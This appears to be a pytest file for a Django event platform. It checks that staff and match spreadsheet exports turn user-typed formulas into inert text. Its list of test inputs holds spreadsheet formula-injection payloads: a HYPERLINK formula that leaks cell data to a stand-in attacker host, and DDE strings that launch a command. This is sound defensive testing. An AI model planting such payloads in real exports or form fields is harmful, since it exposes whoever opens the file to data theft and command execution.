"""No spreadsheet the platform hands out contains a formula someone typed.

Hostile text reaches the exports from people who need no privilege: an attendee name
on the RSVP page (only an invitation link), an organization's name set by its owner, a
catalog key in an import. Every export is read back as a spreadsheet program would,
and no cell may be a formula or start with what would make one. All of them are
written by core/spreadsheets.py; the last test keeps it that way.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from core.spreadsheets import FORMULA_TRIGGERS, csv_text, neutralize, xlsx_bytes
from events.models import Registration
from matchmaking.management.commands.export_matches import as_csv
from tests.factories import (
    EventFactory,
    MeetingFactory,
    ProviderFactory,
    RegistrationFactory,
    StaffFactory,
)

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent.parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def _is_inert(value) -> bool:
    return not (isinstance(value, str) and value.lstrip(" \u3000").startswith(FORMULA_TRIGGERS))


def _xlsx_cells(content: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _csv_cells(content: bytes | str) -> list[str]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.fixture
def hostile_event(client):
    """An event whose every person-typed text is a formula, attendees typed on the RSVP page."""
    event = EventFactory(title_zh=HOSTILE[0], title_en=HOSTILE[0])
    for n, text in enumerate(HOSTILE):
        registration = RegistrationFactory(invited=True, event=event, organization__name=text)
        response = client.post(
            reverse("event-rsvp", args=[registration.rsvp_token]),
            {"answer": "attend", "attendees": HOSTILE[-1 - n]},
        )
        assert response.status_code in (200, 302)
        MeetingFactory(
            event=event, enterprise=registration.organization, provider=ProviderFactory(name=text)
        )
    # The form trims blanks around a name: what is stored still starts a formula.
    stored = set(Registration.objects.values_list("attendees", flat=True))
    assert stored == {text.strip() for text in HOSTILE}
    return event


@pytest.mark.parametrize("kind", ["attendees", "schedule"])
def test_the_staff_xlsx_exports_hold_no_formula(client, hostile_event, kind):
    client.force_login(StaffFactory())

    response = client.get(
        reverse("admin:events_event_export", args=[hostile_event.pk, kind, "xlsx"])
    )

    cells = _xlsx_cells(response.content)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    assert response.status_code == 200
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if not _is_inert(cell.value)] == []
    assert "'" + HOSTILE[1] in texts  # the text is all there, only made inert


@pytest.mark.parametrize("kind", ["attendees", "schedule"])
def test_the_staff_csv_exports_hold_no_formula(client, hostile_event, kind):
    client.force_login(StaffFactory())

    response = client.get(
        reverse("admin:events_event_export", args=[hostile_event.pk, kind, "csv"])
    )

    cells = _csv_cells(response.content)
    assert response.status_code == 200
    assert [cell for cell in cells if not _is_inert(cell)] == []
    assert "'" + HOSTILE[1] in cells


def test_the_match_export_neutralises_catalog_keys():
    document = {
        "matches": [
            {
                "need": "=1+1",
                "solution": "@cmd",
                "rank": 1,
                "score": 0.5,
                "explanation": {
                    **dict.fromkeys(
                        ("industry", "capabilities", "text", "budget", "deployment", "maturity"),
                        0.1,
                    ),
                    "terms": ["-term", "视觉"],
                },
            }
        ]
    }

    cells = _csv_cells(as_csv(document))

    assert [cell for cell in cells if not _is_inert(cell)] == []
    assert cells[-11:-9] == ["'=1+1", "'@cmd"]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_writer_keeps_the_text_behind_a_quote(text):
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("value", ["王工, 李工", "a-b", "3-5 人", 42, -3, 0.5, None, "O'Brien"])
def test_the_writer_leaves_ordinary_values_alone(value):
    assert neutralize(value) == value


def test_numbers_stay_numbers_in_xlsx():
    cells = _xlsx_cells(xlsx_bytes(["n", "text"], [[-3, "-3"]]))

    assert [(cell.value, cell.data_type) for cell in cells[2:]] == [(-3, "n"), ("'-3", "s")]
    assert csv_text(["n"], [[-3]]) == "n\r\n-3\r\n"


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    rows = list(csv.reader(io.StringIO(csv_text(["name"], [["ok\r=1+1"]]), newline="")))

    assert rows == [["name"], ["ok\r=1+1"]]


# --- one writer ------------------------------------------------------------------------------

# Writing, not reading: openpyxl writes through its Workbook (load_workbook only reads an
# uploaded file, as the filing-list import does), csv through its writers.
WRITERS = re.compile(
    r"csv\.(writer|DictWriter)\(|\bWorkbook\b|openpyxl\.writer|xlsxwriter"
    r"|\.export\(\s*[\"'](xlsx|xls|csv|ods|tsv)"
)


def test_no_module_but_the_shared_writer_writes_spreadsheets():
    sources = [
        path
        for app in ("config", "core", "matchmaking", "events", "bench")
        for path in (ROOT / app).rglob("*.py")
        if "migrations" not in path.parts
    ]

    writers = sorted(
        str(path.relative_to(ROOT)) for path in sources if WRITERS.search(path.read_text())
    )

    assert writers == ["core/spreadsheets.py"]
